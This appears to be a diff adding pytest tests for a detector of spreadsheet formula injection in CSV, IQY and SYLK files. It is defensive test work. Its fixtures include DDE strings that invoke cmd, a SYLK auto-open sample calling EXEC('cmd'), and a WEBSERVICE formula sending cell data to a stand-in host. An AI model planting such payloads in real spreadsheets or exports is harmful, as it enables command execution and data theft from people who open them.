@@ -1,0 +1,44 @@
+from __future__ import annotations
+
+import pytest
+
+from gateway.extract.formulas import FORMULAS
+from tests.builders.archives import codes, take_apart
+
+
+@pytest.mark.parametrize("text", [
+    "a,b\r\n=cmd|'/c rem'!A0,1\r\n", '"@SUM(1+1)*cmd|\' /C rem\'!A0"\r\n', "=MSEXCEL|'\\..\\..\\cmd.exe /c rem'!''", "1,+cmd|' /C rem'!'A1'\n",
+    "x;-2+3+cmd|' /C rem'!D2", '=DDE("cmd";"/C rem";"!A0")|x!'
+])
+def test_dde_in_tables(text: str) -> None:
+    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv")))
+    assert "FORMULA-DDE" in codes(list(take_apart(FORMULAS, text.encode("utf-16"), "a.csv", kind="text/csv")))
+
+
+@pytest.mark.parametrize("text", [
+    "name,phone\n王小明,+886-912-345-678\n", "a|b|c\n-1|2|3!\n", "=SUM(A1:A3)\n", "@user,hello | world!\n", "a,=1+1\n", "- item | cmd prompt\n",
+    "-5,100|200,wow!\n",
+])
+def test_ordinary_tables(text: str) -> None:
+    assert codes(list(take_apart(FORMULAS, text.encode(), "a.csv", kind="text/csv"))) == set()
+
+
+def test_prose_may_quote_formulas() -> None:
+    text = b"The cell was =cmd|'/c rem'!A0 as reported"
+    assert codes(list(take_apart(FORMULAS, text, kind="text/plain"))) == set()
+
+
+def test_query_files_and_calls() -> None:
+    assert codes(list(take_apart(FORMULAS, b"WEB\r\n1\r\nhttp://h.example/q\r\n", "a.iqy", kind="text/plain"))) == {"FORMULA-QUERY"}
+    assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, b'a,=WEBSERVICE("http://h.example/"&A1)\n', "a.csv", kind="text/csv")))
+
+
+def test_sylk() -> None:
+    data = b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC(\"cmd\")\r\nE\r\n"
+    assert {"XLM-AUTO-NAME", "XLM-SHEET", "XLM-CALL"} <= codes(list(take_apart(FORMULAS, data, "a.slk", kind="text/plain")))
+    assert codes(list(take_apart(FORMULAS, b"ID;PWXL;N;E\r\nC;Y1;X1;K1\r\nC;X2;ER[1]C*2\r\nE\r\n", "a.slk", kind="text/plain"))) == set()
+
+
+def test_long_tables_are_linear() -> None:
+    assert codes(list(take_apart(FORMULAS, b"=a|b" * 250_000, "a.csv", kind="text/csv"))) is not None
+    assert codes(list(take_apart(FORMULAS, b"+,|" * 300_000 + b"!", "a.csv", kind="text/csv"))) is not None
